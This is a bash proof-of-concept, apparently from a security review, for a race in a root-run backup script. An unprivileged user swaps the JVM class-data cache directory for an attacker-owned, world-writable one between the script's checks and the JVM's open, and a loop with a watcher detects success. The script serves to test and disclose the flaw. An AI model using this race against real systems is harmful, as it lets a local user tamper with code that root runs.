#!/bin/bash
# B: root's backup.sh with its cache under a directory another user (nobody) can write, e.g. sudo keeping
# HOME=/home/alice, or BACKUP_CDS_DIR=/srv/shared/cds. The attacker flips the checked directory with one of
# their own (owner nobody, mode 0777, archive 0666) between backup.sh's checks and the JVM's open.
set -u
b=/work/review-2026-11-26b/b
pkill_flip() { [[ -n ${flip_pid:-} ]] && kill $flip_pid 2>/dev/null; }
trap pkill_flip EXIT
rm -rf $b/home; mkdir -p $b/home/.cache; chown -R 65534:65534 $b/home; chmod 0755 $b/home $b/home/.cache
export XDG_CACHE_HOME=$b/home/.cache BACKUP_SOURCE_DIR=$b/src BACKUP_DIR=$b/store BACKUP_LOG_LEVEL=warn
mkdir -p $b/src; echo hi > $b/src/a.txt
/work/wt-backup/scripts/backup.sh backup >/dev/null 2>&1   # root makes its archive (dir root 0700, file 0400)
ls -la $XDG_CACHE_HOME/bulwark-backup
key=$(ls $XDG_CACHE_HOME/bulwark-backup)                   # an attacker reads it from ps (-XX:SharedArchiveFile=...)
# the attacker's directory and archive (stand-in for one they built with the same JDK and jars)
mkdir $XDG_CACHE_HOME/evil; cp $XDG_CACHE_HOME/bulwark-backup/$key $XDG_CACHE_HOME/evil/$key
chown -R 65534:65534 $XDG_CACHE_HOME/evil; chmod 0777 $XDG_CACHE_HOME/evil; chmod 0666 $XDG_CACHE_HOME/evil/$key
ls -la $XDG_CACHE_HOME/evil
ino=$(stat -c %i $XDG_CACHE_HOME/evil/$key)
echo "attacker archive inode $ino"
(cd $XDG_CACHE_HOME && exec setpriv --reuid=65534 --regid=65534 --clear-groups $b/flip bulwark-backup evil) & flip_pid=$!
python3 $b/watch.py $ino 120 & watch_pid=$!
for i in $(seq 30); do
  /work/wt-backup/scripts/backup.sh list >/dev/null 2>&1
  kill -0 $watch_pid 2>/dev/null || break
done
wait $watch_pid; echo "watcher rc=$? after $i runs of backup.sh list"
